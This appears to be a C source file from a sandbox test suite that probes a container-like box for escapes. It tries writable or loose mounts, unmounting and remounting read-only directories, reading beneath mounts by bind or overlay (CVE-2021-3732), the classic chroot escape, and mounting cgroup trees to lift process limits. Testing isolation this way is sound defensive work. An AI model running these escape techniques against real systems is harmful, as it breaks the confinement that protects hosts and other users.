/* SPDX-License-Identifier: Apache-2.0 */
/* Attacks on the mount tree and the cgroup tree, as the payload and as root of a user namespace below it. */
#include "probe.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

#define NR_OPEN_TREE 428
#define NR_MOVE_MOUNT 429
#define NR_MOUNT_SETATTR 442
#define OPEN_TREE_COPY 1
#define ATTR_RDONLY 1ull

typedef struct setattr {
	unsigned long long set, clr, propagation, userns;
} setattr;

enum { MOST_MOUNTS = 512 };

typedef struct mount_list {
	size_t n;
	char *path[MOST_MOUNTS];
} mount_list;

/* The mount points of /proc/self/mountinfo (fifth field), last first: the lowest on top of the others. */
static void read_mounts(mount_list *list)
{
	char line[8192];
	FILE *f = fopen("/proc/self/mountinfo", "re");
	list->n = 0;
	while (f != NULL && list->n < MOST_MOUNTS && fgets(line, sizeof(line), f) != NULL) {
		char *at = line;
		for (int field = 0; field < 4 && at != NULL; field++)
			at = strchr(at + 1, ' ');
		if (at != NULL)
			list->path[list->n++] = strndup(at + 1, strcspn(at + 1, " "));
	}
	if (f != NULL)
		fclose(f);
}

static bool named(const char *name, char **args)
{
	for (; *args != NULL; args++)
		if (strcmp(name, *args) == 0)
			return true;
	return false;
}

static int writes_in(const char *dir)
{
	char path[4200];
	snprintf(path, sizeof(path), "%s/nestbox-attack.%d", dir, getpid());
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
	if (fd >= 0) {
		close(fd);
		unlink(path);
	}
	return fd >= 0 ? 0 : errno;
}

/* Any mount but the allowed ones that is not read-only or takes a file. */
static int writable_mounts(char **args)
{
	mount_list list;
	read_mounts(&list);
	if (list.n == 0)
		return untried("/proc/self/mountinfo: %m");
	for (size_t i = 0; i < list.n; i++)
		if (!named(list.path[i], args) && writes_in(list.path[i]) == 0)
			return done("wrote in %s", list.path[i]);
	return stopped("%zu mounts, none writable but those allowed", list.n);
}

/* Set-user-id programs or device nodes work on some mount. */
static int loose_mounts(char **args)
{
	mount_list list;
	read_mounts(&list);
	for (size_t i = 0; i < list.n; i++) {
		struct statvfs st;
		struct stat is;
		/* a device node that is bound in place is a mount as well: neither word means anything for it */
		bool skip = named(list.path[i], args) || stat(list.path[i], &is) != 0 || !S_ISDIR(is.st_mode);
		if (skip || statvfs(list.path[i], &st) != 0)
			continue;
		if ((st.f_flag & ST_NOSUID) == 0)
			return done("%s is not nosuid", list.path[i]);
		if ((st.f_flag & ST_NODEV) == 0 && strncmp(list.path[i], "/dev", 4) != 0)
			return done("%s is not nodev", list.path[i]);
	}
	return list.n ? stopped("%zu mounts are nosuid and nodev", list.n) : untried("/proc/self/mountinfo: %m");
}

static int unmount_here(void *arg)
{
	(void)arg;
	mount_list list;
	read_mounts(&list);
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	for (size_t i = list.n; i-- > 1;)
		if (umount2(list.path[i], MNT_DETACH) == 0)
			return done("unmounted %s", list.path[i]);
	return stopped("%zu mounts: %m", list.n);
}

static int unmount(char **args)
{
	return unmount_here(args);
}

static int unmount_nested(char **args)
{
	return in_userns(CLONE_NEWNS, unmount_here, args);
}

/* Make DIR (read-only in the box) writable, by both ways to remount, and write in it. */
static int remount_here(void *arg)
{
	char **args = arg;
	setattr attr = { .clr = ATTR_RDONLY };
	long new_way = syscall(NR_MOUNT_SETATTR, AT_FDCWD, args[0], AT_RECURSIVE, &attr, sizeof(attr));
	int old_way = mount(NULL, args[0], NULL, MS_REMOUNT | MS_BIND, NULL);
	int err = errno;
	return (new_way == 0 || old_way == 0) && writes_in(args[0]) != EROFS ? done("%s is writable", args[0])
									     : stopped("remount: %s", strerror(err));
}

static int remount(char **args)
{
	return remount_here(args);
}

static int remount_nested(char **args)
{
	return in_userns(CLONE_NEWNS, remount_here, args);
}

/* What lies below a mount: bind (or copy) its parent without what is mounted on it, and look there. */
static int peek_here(void *arg)
{
	char **args = arg, path[4200];
	if (mkdir("/tmp/peek", 0700) != 0 && errno != EEXIST)
		return untried("/tmp/peek: %m");
	bool bound = mount(args[0], "/tmp/peek", NULL, MS_BIND, NULL) == 0;
	if (!bound) {
		int tree = (int)syscall(NR_OPEN_TREE, AT_FDCWD, args[0], OPEN_TREE_COPY);
		bound = tree >= 0 && syscall(NR_MOVE_MOUNT, tree, "", AT_FDCWD, "/tmp/peek", 4) == 0;
	}
	if (!bound)
		return stopped("bind of %s: %m", args[0]);
	snprintf(path, sizeof(path), "/tmp/peek/%s", args[1]);
	return holds_secret(AT_FDCWD, path) ? done("read %s below the mount", args[1]) : stopped("%s: %m", path);
}

static int peek(char **args)
{
	return in_userns(CLONE_NEWNS, peek_here, args);
}

/* The same by an overlay, whose layers are copies of a mount without what is mounted on it (CVE-2021-3732). */
static int peek_overlay_here(void *arg)
{
	char **args = arg, path[4200], options[4200];
	if (mkdir("/tmp/peek", 0700) != 0 && errno != EEXIST)
		return untried("/tmp/peek: %m");
	if (mkdir("/tmp/empty", 0700) != 0 && errno != EEXIST)
		return untried("/tmp/empty: %m");
	snprintf(options, sizeof(options), "lowerdir=%s:/tmp/empty", args[0]);
	if (mount("overlay", "/tmp/peek", "overlay", MS_RDONLY, options) != 0)
		return stopped("overlay of %s: %m", args[0]);
	snprintf(path, sizeof(path), "/tmp/peek/%s", args[1]);
	return holds_secret(AT_FDCWD, path) ? done("read %s below the mount", args[1]) : stopped("%s: %m", path);
}

static int peek_overlay(char **args)
{
	return in_userns(CLONE_NEWNS, peek_overlay_here, args);
}

/* The classic way out of a chroot: a directory kept open while the root moves below it. */
static int leave_chroot(void *arg)
{
	static const char up[] = "../../../../../../../../../../../../../../../../../../../../../../../..";
	char **args = arg;
	int here = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (chdir("/tmp") != 0 || (mkdir("cell", 0700) != 0 && errno != EEXIST) || chroot("cell") != 0)
		return stopped("chroot: %m");
	if (here < 0 || fchdir(here) != 0)
		return stopped("fchdir: %m");
	if (chdir(up) != 0 || chroot(".") != 0)
		return stopped("chdir: %m");
	return holds_secret(AT_FDCWD, args[0]) ? done("%s was read", args[0]) : stopped("this root has no %s", args[0]);
}

static int escape_chroot(char **args)
{
	return geteuid() == 0 ? in_child(leave_chroot, args) : in_userns(0, leave_chroot, args);
}

/* Every kind of cgroup file system that may be mounted below; its limits and tasks are tried. */
static const char *const hierarchies[][2] = {
	{ "cgroup2", NULL },    { "cgroup", "memory" },  { "cgroup", "cpu,cpuacct" }, { "cgroup", "cpu" },
	{ "cgroup", "pids" },   { "cgroup", "freezer" }, { "cgroup", "devices" },     { "cgroup", "rdma" },
	{ "cgroup", "cpuset" }, { "cgroup", "blkio" },
};

static bool opens(const char *dir, const char *name)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd >= 0)
		close(fd);
	return fd >= 0;
}

static int cgroup_here(void *arg)
{
	char **args = arg;
	int mounted = 0;
	if (mkdir("/tmp/cg", 0700) != 0 && errno != EEXIST)
		return untried("/tmp/cg: %m");
	for (size_t i = 0; i < sizeof(hierarchies) / sizeof(hierarchies[0]); i++) {
		if (mount("cgroup", "/tmp/cg", hierarchies[i][0], 0, hierarchies[i][1]) != 0)
			continue;
		mounted++;
		for (char **name = args; *name != NULL; name++)
			if (opens("/tmp/cg", *name))
				return done("%s of the box's cgroup (%s) opens for writing", *name, hierarchies[i][1]);
		umount2("/tmp/cg", MNT_DETACH);
	}
	return stopped("%d cgroup file systems could be mounted", mounted);
}

/* Mount the cgroup tree in a namespace below and open any of the files named for writing. */
static int cgroup_files(char **args)
{
	return in_userns(CLONE_NEWNS | CLONE_NEWCGROUP, cgroup_here, args);
}

static bool write_value(const char *dir, const char *name, const char *value)
{
	char path[512];
	snprintf(path, sizeof(path), "%s/%s", dir, name);
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool good = fd >= 0 && write(fd, value, strlen(value)) > 0;
	if (fd >= 0)
		close(fd);
	return good;
}

/* With the worker's cgroup tree in view: leave for another cgroup of the same user's. */
static int cgroup_leave(char **args)
{
	return write_value(args[0], "cgroup.procs", "0") ? done("moved to %s", args[0]) : stopped("%s: %m", args[0]);
}

/* Lift the limit on processes wherever a cgroup tree can be mounted, then have N of them. */
static int many_processes(void *arg)
{
	unsigned long n = *(unsigned long *)arg, born = 0;
	pid_t pids[1000];
	static const char *const kinds[][2] = { { "cgroup", "pids" }, { "cgroup2", NULL } };
	mkdir("/tmp/cg", 0700);
	for (size_t i = 0; i < 2; i++)
		if (mount("cgroup", "/tmp/cg", kinds[i][0], 0, kinds[i][1]) == 0) {
			write_value("/tmp/cg", "pids.max", "max");
			write_value("/tmp/cg/..", "pids.max", "max");
		}
	for (pid_t pid = 1; born < n && pid > 0;) {
		pid = fork();
		if (pid == 0) {
			pause();
			_exit(0);
		}
		if (pid > 0)
			pids[born++] = pid;
	}
	for (size_t i = 0; i < born; i++)
		kill(pids[i], SIGKILL);
	return born == n ? done("%lu processes", born) : stopped("%lu processes: %m", born);
}

static int exceed_pids(char **args)
{
	unsigned long n = number(args[0]);
	if (n > 1000)
		return untried("at most 1000");
	return in_userns(CLONE_NEWNS | CLONE_NEWCGROUP, many_processes, &n);
}

/* A mount made below must not be seen by the worker: it is the caller who looks. */
static int mount_here(void *arg)
{
	char **args = arg;
	if (mount("nestbox-attack", args[0], "tmpfs", 0, NULL) != 0)
		return stopped("mount: %m");
	usleep(300000);
	return done("mounted on %s", args[0]);
}

static int mount_nested(char **args)
{
	return in_userns(CLONE_NEWNS, mount_here, args);
}

static int mount_plain(char **args)
{
	return mount_here(args);
}

const probe mount_probes[] = {
	{ "writable-mounts", 0, writable_mounts, "a mount but ALLOWED... takes a file" },
	{ "loose-mounts", 0, loose_mounts, "a mount but ALLOWED... lacks nosuid or nodev" },
	{ "unmount", 0, unmount, "unmount anything" },
	{ "unmount-nested", 0, unmount_nested, "unmount anything, as root of a user namespace below" },
	{ "remount", 1, remount, "make DIR writable" },
	{ "remount-nested", 1, remount_nested, "make DIR writable, as root of a user namespace below" },
	{ "peek", 2, peek, "read the secret NAME in DIR below what is mounted there" },
	{ "peek-overlay", 2, peek_overlay, "the same by an overlay" },
	{ "escape-chroot", 1, escape_chroot, "read the secret PATH of the outside after leaving the root" },
	{ "cgroup-files", 1, cgroup_files, "mount cgroup trees below and open FILE... for writing" },
	{ "exceed-pids", 1, exceed_pids, "have N processes after lifting the limit by a cgroup mount below" },
	{ "cgroup-leave", 1, cgroup_leave, "move to the cgroup directory PATH" },
	{ "mount", 1, mount_plain, "mount a tmpfs on DIR" },
	{ "mount-nested", 1, mount_nested, "mount a tmpfs on DIR, as root of a user namespace below" },
	{ 0 },
};
